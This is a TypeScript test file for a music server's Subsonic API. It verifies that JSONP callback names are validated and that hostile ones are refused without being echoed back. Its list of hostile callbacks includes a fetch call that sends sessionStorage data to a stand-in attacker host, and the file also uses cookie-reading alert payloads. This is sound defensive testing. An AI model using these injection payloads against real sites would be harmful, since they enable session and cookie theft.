import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { issueCodes } from '../auth/code-service.js';
import { render } from '../subsonic/response.js';
import { appLogin, type AppLogin } from '../test-support/subsonic-client.js';
import { buildTestApp, type TestApp } from '../test-support/test-app.js';

let t: TestApp;
let login: AppLogin;
beforeAll(async () => {
  t = await buildTestApp();
  login = await appLogin(t.app, (await issueCodes(t.app.db, {}))[0]?.id as number);
});
afterAll(async () => {
  await t.close();
});

const HOSTILE_CALLBACKS = [
  "fetch('//evil.example/'+sessionStorage.getItem('x'))//",
  'alert(1)',
  'a.b',
  'window.onload',
  '1abc',
  `a${'b'.repeat(64)}`,
  'cb;alert(1)',
  'cb\u2028',
  '',
];

describe('JSONP never reflects a refused callback', () => {
  it('answers a refused callback with a JSON error (10), without login and with one, never echoing it', async () => {
    for (const callback of HOSTILE_CALLBACKS) {
      for (const auth of [{ u: 'x', p: 'y' }, { apiKey: login.password }] as Record<string, string>[]) {
        const response = await t.app.inject({ url: `/rest/ping?${new URLSearchParams({ v: '1.16.1', c: 'test', f: 'jsonp', callback, ...auth })}`, remoteAddress: '10.9.0.1' });
        expect(response.statusCode).toBe(200);
        expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
        const answer = response.json<{ 'subsonic-response': { status: string; error: { code: number } } }>()['subsonic-response'];
        expect([answer.status, answer.error.code]).toEqual(['failed', 10]);
        if (callback) expect(response.body).not.toContain(callback);
      }
    }
  });

  it('wraps only an identifier of at most 64 characters', async () => {
    for (const callback of ['cb', '_a1', '$jsonp_12', `a${'b'.repeat(63)}`]) {
      const response = await t.app.inject({ url: `/rest/ping?${new URLSearchParams({ v: '1.16.1', c: 'test', f: 'jsonp', callback, apiKey: login.password })}` });
      expect(response.headers['content-type']).toBe('application/javascript; charset=utf-8');
      expect(response.body.startsWith(`${callback}({"subsonic-response":{"status":"ok"`)).toBe(true);
    }
  });

  it('renders JSON when any caller passes a bad callback to the renderer (the error path included)', () => {
    for (const status of ['ok', 'failed'] as const) {
      const { type, body } = render('jsonp', "alert(document.cookie)//", status, { error: { code: 0, message: 'x' } });
      expect(type).toBe('application/json; charset=utf-8');
      expect(body).not.toContain('alert');
      expect(render('jsonp', undefined, status, {}).type).toBe('application/json; charset=utf-8');
    }
  });
});
